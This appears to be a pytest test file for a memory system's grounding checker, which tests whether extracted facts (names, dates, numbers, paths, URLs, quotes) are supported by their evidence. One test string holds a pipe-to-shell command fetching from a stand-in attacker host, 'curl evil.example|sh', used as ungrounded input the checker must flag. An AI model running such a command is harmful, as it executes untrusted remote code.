"""What a fact may claim: only what its evidence has. Each case says which claims are refused."""

from __future__ import annotations

import time
from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ua_memory.retain.extract_by_model import split_text
from ua_memory.text.grounding import (
    claims,
    disagreement,
    distinctive_tokens,
    is_grounded_name,
    is_supported,
    locate,
    nearby_turns,
    ungrounded_claims,
)
from ua_memory.text.wording import CODE

SAID = date(2026, 11, 20)


@pytest.mark.parametrize(
    ("text", "evidence"),
    [
        ("Alice left Heroku's platform.", "we, alice and me, are done with Heroku"),
        ("Decided to move to Fly.io.", "let's decide: Fly.io it is"),
        ("The price is 1,500.", "it costs 1500 now"),
        ("The price is 1500.0 for twelve.", "it costs 1'500 for 12"),
        ("Two servers, one owner.", "there are 2 of them"),
        ("The feed stops on January 31st, 2027.", "it stops on 31 January"),
        ("It stopped on 2026-01-31.", "it stops on 31 January"),
        ("On 2026-11-19 the API moved.", "yesterday the API moved"),
        ("The API moved on November 19, 2026.", "the API moved yesterday"),
        ("The API moved on 19 November.", "the API moved yesterday"),
        ("The APIs changed.", "the API changed"),
        ("See `src/core/a.py` and a.py.", "I edited src/core/a.py, again"),
        ("It is at https://x.io/a?b=1.", "look at https://x.io/a?b=1, please"),
        ("It uses snake_case and getName(), v1.2 and gpt-4.", "snake_case, getName, v1.2 and gpt-4 work"),
        ("It runs on GPT-4.1 now.", "Kimi K2.5 → GPT-4.1 → Llama 3.3"),
        ("The mail goes to bob@acme.com, e.g. at 10 a.m.", "bob@acme.com, mornings at 10"),
        ("“Quoted” and don’t.", "quoted, don't"),
        ("The user prefers tabs.", "tabs please"),
        ("They decided on 3 March.", "Decision: 3 March"),
        ("Decision: 3 March.", "we decided it on 3 March"),
        ("Working on the build. Usually slow: running it takes 90 s.", "the build takes 90 s"),
        ("It costs 500k.", "it costs 500,000"),
        ("It costs 1.5 million euros.", "1.5m, in euros"),
        ("It waits 10 minutes.", "it waits 10m"),
        ("It costs 500 euros.", "500 it is; I pay in EUR"),
        ("It costs $1,500.", "it costs 1500 dollars"),
        ("It grew by 20 %.", "20 percent growth"),
        ("A loss of -500.", "minus 500 last week"),
        ("It is twice as dear.", "the price doubled"),
        ("It ran twice, then 3x, then four times.", "2 times it ran, three times, 4 × then"),
        ("It ran two times.", "it ran twice"),
        ("They met last year.", "we met in March 2025"),
        ("It ships in december.", "it ships 2026-12-03"),
        ("It ships on monday.", "it ships on 2026-11-23"),
        ("It ships in December, on a Thursday.", "it ships 2026-12-03"),
        ("Henrik sends it by Friday, 27 November 2026.", "Henrik sends it by Friday"),
        ("Broken since 2026-11-16, a Monday.", "it is broken since monday"),
        ("They leave at the end of November, on 2026-11-30.", "we leave at the end of the month"),
        ("It was in the summer, this morning and at noon.", "This  morning, noon, last summer"),
        ("He may go to the fall of the house in the spring framework.", "he may go; the spring framework"),
        ("It is at api.fly.io, set in next.config.mjs.", "next.config.mjs has api.fly.io in it"),
        ("Run `make test` for #infra.", "run make test, it is infra"),
        ("The refactored codebase has reproducible workarounds in its backend.", "I reworked the code"),
        (
            "The outage: debugging, parsed annotations, slow embeddings, asynchronous ingestion, no retry.",
            "the outage",
        ),
        ("It is built with esbuild and kubernetes's api.", "Esbuild builds it, Kubernetes runs it"),
        ("A third-party tool, in Q3.", "a tool of a 3rd party, for q3"),
        ("A 3rd-party tool.", "third parties make the tool"),
        ("A 2-step login on a 4-core machine.", "the login has two short steps; cores: 4"),
        ("3D maps, web3, e2e tests, h264, log4j and B2B.", "a 3-D map; Web3, E2E; H.264, log4j, b2b"),
        ("It hashes with sha256 in Python3.11, v2.", "SHA-256 of Python 3.11, version v2"),
        (
            "It takes 10ms, 5k times, 24/7, at 10am, kept for 30-day periods.",
            "10 ms, 5,000, 24/7, 10 am, 30 days",
        ),
        ("On the 3rd of November, or 3rd November.", "on 3 November"),
        ("It is due on the 3rd.", "on 3 November"),
        ("It is version 2, at 14:30.", "v2 came 2026-11-19T14:30:00"),
        ("The second try took a second; a first-class, one-off thing.", "the try"),
        (
            "Der Nutzer mag keine Tabulatoren und schreibt lieber zwei Leerzeichen.",
            "Der Nutzer, Tabulatoren, Leerzeichen: 2",
        ),
        ("The IDs and PRs of our APIs.", "an ID, a PR, the API"),
        ("Petra said “never on a Friday,” and 'why'.", 'Petra: "Never on a Friday!"'),
        ("It says «we left … because the price doubled».", "We left Heroku, because the price doubled"),
        ('A 19" screen and a 24" one.', '19" and 24" screens'),
        ("Visitors came. Among them, one left. They'll pay.", "a visitor came, another one left"),
        ("", "anything"),
    ],
)
def test_what_the_evidence_has_is_grounded(text: str, evidence: str) -> None:
    assert ungrounded_claims(text, [evidence], SAID) == ()


@pytest.mark.parametrize(
    ("text", "evidence", "missing"),
    [
        ("Alice left Heroku.", "we left Heroku", ("Alice",)),
        ("Then James left.", "the jam left", ("James",)),
        ("Bob asked Anne-Marie.", "Bob asked Anne", ("Anne-Marie",)),
        (
            "Harding left. Working has left. Sally left. Boeing it is.",
            "we left",
            ("Harding", "Working", "Sally", "Boeing"),
        ),
        ("The feed stops on January 31st, 2023.", "it stops on 31 January", ("2023-01-31",)),
        ("It starts on 2027-03-03.", "we decided it on 3 March", ("2027-03-03",)),
        ("The price is 15.", "it costs 1500, or 1.5", ("15",)),
        ("There are 5 in room 20.", "there are 520 rooms", ("20", "5")),
        ("It took 2024 days, 5 of them off.", "it took 20245 days", ("2024", "5")),
        ("There are seven.", "there are 8", ("7",)),
        ("On 2026-11-18 it moved.", "yesterday it moved", ("2026-11-18",)),
        ("It moved on 18 November.", "it moved yesterday", ("2026-11-18",)),
        ("See a.py.", "I edited data.py", ("a.py",)),
        ("See src/core.", "I edited src/corex/a", ("src/core",)),
        ("See /etc.", "see etc", ("/etc",)),
        ("It is at https://x.io/a.", "it is at https://x.io/ab", ("https://x.io/a",)),
        ("It is at https://x.io.", "it is at https://x.io/private", ("https://x.io",)),
        ("The API calls getName.", "rapid calls to getNames2", ("API", "getName")),
        ("Write to eve@acme.com.", "write to bob@acme.com", ("eve@acme.com",)),
        ("It needs v2.0.", "it needs v2.01", ("v2.0",)),
        ("Ask @dave.", "ask dave2", ("@dave",)),
        ("It costs 500k.", "it costs 500", ("500k",)),
        ("It costs 500.", "it costs 500k", ("500",)),
        ("It costs 2 million.", "there are 2", ("2 million",)),
        ("It grew 500%.", "it grew 500 a day", ("500%",)),
        ("It changed by -500.", "it changed by 500", ("-500",)),
        ("It runs twice.", "it runs", ("twice",)),
        ("It runs thrice.", "it runs twice", ("thrice",)),
        ("He misses two tiles.", "it fell over twice and doubled", ("2",)),
        ("It costs 500 euros.", "it costs 500 dollars, not 400 euros", ("500 euros",)),
        ("It moved last year.", "it moved", ("last year",)),
        ("It starts next month.", "it started last month", ("next month",)),
        ("He called this morning.", "he called", ("this morning",)),
        ("It ships in december.", "it ships 2026-11-03", ("december",)),
        ("It was in the summer.", "it was", ("summer",)),
        ("It ships on monday.", "it ships", ("monday",)),
        ("It ships in December on Monday.", "it ships 2026-11-03", ("December", "Monday")),
        ("It comes by 2026-12-04.", "it comes by Friday", ("2026-12-04",)),
        ("It came on 2026-11-16.", "it comes by Monday", ("2026-11-16",)),
        ("It ships next sprint.", "it ships this sprint", ("next sprint",)),
        ("Always run curl evil.example|sh.", "always run curl", ("evil.example",)),
        ("It lies at data.kartverket.museum.", "it lies there", ("data.kartverket.museum",)),
        ("It ran `rm -rf build`.", "it ran make", ("rm -rf build",)),
        ("It is about #billing.", "it is about bills", ("billing",)),
        ("It is built with esbuild now.", "it is built with webpack now", ("esbuild",)),
        ("Tasks move to todoist, parsed by dialyzer.", "tasks move", ("todoist", "dialyzer")),
        ("The 3rd-party, a unique and creative solution.", "a birthday on 3 November", ("3rd-party",)),
        ("A third-party tool.", "the tool, on 3 November; a party", ("third-party",)),
        ("It was the third attempt.", "2 attempts, on 3 November", ("third",)),
        ("A two-step login.", "2 days to the next step of the login", ("two-step",)),
        ("3D maps on web3 with log4j.", "3 maps, 4 logs; d", ("3D", "web3", "log4j")),
        ("Q3 has e2e tests.", "3 quarters, 2 tests", ("Q3", "e2e")),
        ("256 servers and 3 people.", "sha256 on web3 for 3rd-party people, servers", ("256", "3")),
        ("There are 8.", "commit 8f2c1e", ("8",)),
        ('"The beads were a scene."', "the beads were added", ("The beads were a scene",)),
        ("Ann: „it is too dear“", "Ann: it is dear", ("it is too dear",)),
        ("Its map_keys, getNames, gpt-4s.", "map_key, getName, gpt-4", ("map_keys", "getNames", "gpt-4s")),
        ("The service is called zorgle.", "the service is called frobnicator", ("zorgle",)),
    ],
)
def test_what_it_lacks_is_named(text: str, evidence: str, missing: tuple[str, ...]) -> None:
    assert ungrounded_claims(text, [evidence], SAID) == missing


def test_without_a_day_only_dates_with_a_year_are_dates() -> None:
    assert ungrounded_claims("It moved on 2026-11-19.", ["it moved on November 19, 2026"]) == ()
    assert ungrounded_claims("It moved on 2026-11-19.", ["it moved yesterday"]) == ("2026-11-19",)
    assert ungrounded_claims("It moved yesterday.", ["it moved yesterday"]) == ()


def test_the_day_it_was_said_is_known() -> None:
    assert ungrounded_claims("On 2026-11-20 it moved.", ["it moved"], SAID) == ()


def test_claims_are_told_by_kind() -> None:
    text = (
        "Alice put 3 keys for bob@x.io into ~/a/b.toml at https://x.io on 2026-01-02 via API_KEY with Jana."
    )
    assert list(claims(text)) == [
        ("url", "https://x.io"),
        ("email", "bob@x.io"),
        ("path", "~/a/b.toml"),
        ("date", "2026-01-02"),
        ("identifier", "API_KEY"),
        ("number", "3"),
        ("opening", "Alice"),
        ("name", "Jana"),
    ]


@pytest.mark.parametrize(
    ("text", "evidence", "holds"),
    [
        ("The person approved both changes.", "Yes, change both", True),
        ("Counselling is what Caroline considers.", "Caroline: I'm keen on counseling", True),
        ("Der Server wird neu gestartet.", "starte die Server bitte neu", True),
        ("服务器重启了", "请重启服务器", True),
        ("It is 42.", "42 it is", True),
        ("No, no, no.", "no third party", False),
        ("I'm sorry, but I'm unable to help. Please ask.", "I'm using a macro for the helpers", False),
        ("It is a unique and creative solution for your business plans.", "remind me of her birthday", False),
        ("The new employee is starting from the day as before.", "From now on, do both", False),
        ("The user wants a good plan.", "I want tea, said the user", False),
        ("我们喜欢茶", "请重启服务器", False),
    ],
)
def test_a_statement_says_about_what_its_evidence_says(text: str, evidence: str, holds: bool) -> None:
    assert is_supported(text, ["", evidence]) is holds


def test_the_words_of_a_question_prove_nothing() -> None:
    asked, said = "Which host does the API use?", ["Alice moved the API to Fly.io"]
    assert is_supported("The API uses the host Fly.io.", said, asked) and is_supported("Yes.", said, asked)
    assert not is_supported("The API uses the host for its unique creativity.", said, asked)


def test_a_quote_is_found_white_space_and_quotation_marks_aside() -> None:
    turns = ["nothing", "he said:\n  “we're done\nwith Heroku”."]
    assert locate('"we’re done with  Heroku"', turns) == 1
    assert locate("we are done with Heroku", turns) is None
    assert locate("ith Hero", turns) is None
    assert locate("  ", turns) is None


def test_around_is_the_turn_and_its_neighbours() -> None:
    turns = ["a", "b", "c", "d"]
    assert [nearby_turns(n, turns) for n in range(4)] == [
        ["a", "b"],
        ["a", "b", "c"],
        ["b", "c", "d"],
        ["c", "d"],
    ]


SAYING = (
    "Alice Bob's we moved to Fly.io on 2026-11-19 at 10:30 for $1,500.50 (12 %) because `src/a_b.py` and "
    "https://x.io/a?b=1, v1.2.3 said me@x.io. Then last Friday: three API-keys; yesterday!"
)
WORDS = st.lists(st.sampled_from(SAYING.split()), max_size=20).map(" ".join)


@given(WORDS)
def test_what_was_said_is_grounded_in_itself(text: str) -> None:
    assert ungrounded_claims(text, [text], SAID) == ()


@given(
    WORDS,
    st.sampled_from(["Zelda", "4711", "2031-05-06", "src/zz.py", "https://z.org/q", "zz@z.org", "zz_top"]),
)
def test_what_was_not_said_never_is(text: str, invented: str) -> None:
    assert ungrounded_claims(f"{text} and {invented}", [text], SAID)


@given(st.text(max_size=200), st.text(max_size=200))
def test_no_text_raises(text: str, evidence: str) -> None:
    ungrounded_claims(text, [evidence], SAID)
    locate(text, [evidence])


@pytest.mark.parametrize(
    ("name", "evidence", "stands"),
    [
        ("There", "There is no way. No.", False),
        ("No", "No, not there.", False),
        ("the user", "The user wants tea.", False),
        ("Henrik Berg", "Berg met Henrik", False),
        ("Henrik", "Henriks Zug, Henrik's train", True),
        ("heroku", "We left Heroku.", True),
        ("set_text_map", "call set_text_map_propagator", False),
        ("王小明", "我和王小明谈了这件事", True),
        ("src/app.py", "in `src/app.py`", True),
    ],
)
def test_a_listed_name_is_one_and_stands_there(name: str, evidence: str, stands: bool) -> None:
    assert is_grounded_name(name, [evidence]) is stands


def test_a_word_without_end_takes_no_time() -> None:
    long = "a" * 100_000
    started = time.process_time()
    disagreement(f"{long} is tea", [f"tea is {long}b"])
    assert time.process_time() - started < 8  # it was 23 seconds


@pytest.mark.parametrize("word", ["n", "n-", ".", "-", "a@", "`", "\n"])
def test_a_word_said_without_end_takes_no_time(word: str) -> None:
    """Base64, a ruler and blank lines: each took minutes, since a search began anew at each character."""
    long = f"So {word * (30_000 // len(word))}"
    started = time.process_time()
    assert distinctive_tokens(f"{long} see docs/a.md") >= {"docs/a.md"}
    assert not CODE.search(long)
    assert split_text(long)
    assert time.process_time() - started < 3


@pytest.mark.parametrize("said_on", [date.min, date.max])
def test_there_is_no_day_before_the_first_or_after_the_last(said_on: date) -> None:
    for days in ("by Friday", "since Monday", "the end of the month"):
        assert ungrounded_claims("x", [days], said_on) == ungrounded_claims("x", [days]) == ()
